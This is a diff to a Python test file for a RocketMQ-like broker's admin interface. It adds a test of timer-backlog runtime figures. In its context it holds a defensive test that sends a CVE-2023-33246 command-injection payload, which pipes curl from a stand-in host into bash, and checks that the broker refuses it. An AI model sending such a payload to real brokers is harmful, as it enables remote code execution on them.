@@ -1,6 +1,7 @@
 """The broker's admin codes over real sockets on a real store: topics (create, delete, every
 config, queue statistics), subscription groups, consume statistics with MessageQueue object
-keys, consumer connections, who consumes a topic, runtime info, and the refused config write."""
+keys, consumer connections, who consumes a topic, runtime info (with the timer backlog), and
+the refused config write."""
 
 from __future__ import annotations
 
@@ -10,10 +11,11 @@ import pytest
 
 from bench.remoting_raw import RawRemotingClient
 from postbox.broker_node.admin import BrokerAdmin, RuntimeStats
+from postbox.broker_node.admin.runtime_info import runtime_table
 from postbox.broker_node.server.broker import BrokerRemotingServer
 from postbox.network.protocol import fastjson
 from postbox.network.protocol.codes import RequestCode, ResponseCode
-from postbox.storage_engine import Broker, Message
+from postbox.storage_engine import Broker, Message, MessageStore
 from postbox.storage_engine.clock import FakeClock
 from postbox.storage_engine.formats.fastjson import ObjectKey
 from tests.support.small_store import small_store_config
@@ -230,3 +232,31 @@ def test_broker_config_write_is_refused(admin):
     answer = client.call(RequestCode.UPDATE_BROKER_CONFIG, {},
                          b"rocketmqHome=-c $@|sh . echo curl evil.example|bash")
     assert answer.code == ResponseCode.NO_PERMISSION and "CVE-2023-33246" in answer.remark
+
+
+def test_the_runtime_table_reports_the_timer_backlog(tmp_path):
+    """``timerOffsetBehind``, ``timerReadBehind`` and Postbox's timer counts, with the timer
+    service driven by hand on a fake clock."""
+    start_ms = 1_700_000_000_000
+    clock = FakeClock(start_ms)
+    store = MessageStore.open(small_store_config(tmp_path / "store"), clock=clock)
+    with Broker(store, clock=clock, owns_store=True, start_services=False) as broker:
+        stats, timers = RuntimeStats(clock), broker.timer_service
+
+        def figures() -> tuple[str, ...]:
+            table = runtime_table(broker, stats)
+            return tuple(table[key] for key in ("timerOffsetBehind", "timerReadBehind",
+                                                "postboxTimerPending", "postboxTimerDelivered"))
+
+        for delay_ms in (1_000, 10_000):
+            broker.send(Message("orders", b"timed", properties={
+                "TIMER_DELIVER_MS": str(start_ms + delay_ms)}))
+        assert store.wait_dispatched()
+        assert figures() == ("2", "0", "0", "0")  # stored, not read into the wheel
+        timers.run_once(clock.now_ms())
+        assert figures() == ("0", "0", "2", "0")
+        clock.advance(2_000)
+        timers.run_once(clock.now_ms())
+        assert figures() == ("0", "0", "1", "1")
+        clock.advance(13_000)  # the second is 5 s overdue: no pass ran since
+        assert figures() == ("0", "5", "1", "1")
